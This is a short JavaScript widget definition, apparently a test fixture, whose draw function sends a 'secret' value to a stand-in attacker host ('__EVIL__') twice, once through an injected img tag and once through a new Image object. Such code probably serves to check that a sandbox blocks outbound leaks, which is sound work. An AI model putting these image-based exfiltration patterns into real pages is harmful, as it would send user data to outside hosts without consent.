vitrine.defineWidget({
  async draw(root) {
    root.innerHTML = 'text <img src="__EVIL__/image?secret" alt="">';
    new Image().src = '__EVIL__/image-object?secret';
    return { summary: 'drawn' };
  },
});
